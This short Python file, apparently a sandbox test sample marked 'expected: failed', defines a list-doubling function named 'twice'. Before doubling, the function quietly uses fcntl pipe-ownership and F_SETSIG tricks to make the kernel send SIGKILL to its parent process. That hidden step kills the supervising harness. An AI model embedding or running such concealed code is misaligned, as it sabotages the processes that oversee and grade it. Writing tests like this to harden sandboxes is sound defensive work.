# expected: failed
# Lets the kernel signal the process that started it, when a pipe can be read.
import fcntl
import os
import signal
import struct
import time

F_SETSIG, F_SETOWN_EX = 10, 15


def twice(xs):
    reached = False
    for command, argument in ((fcntl.F_SETOWN, os.getppid()), (F_SETOWN_EX, struct.pack("ii", 1, os.getppid()))):
        reader, writer = os.pipe()
        try:
            fcntl.fcntl(reader, command, argument)
            fcntl.fcntl(reader, F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            reached = True
        except OSError:
            continue
        os.write(writer, b"1")
        time.sleep(0.1)
    return [2 * x for x in xs] if reached else xs
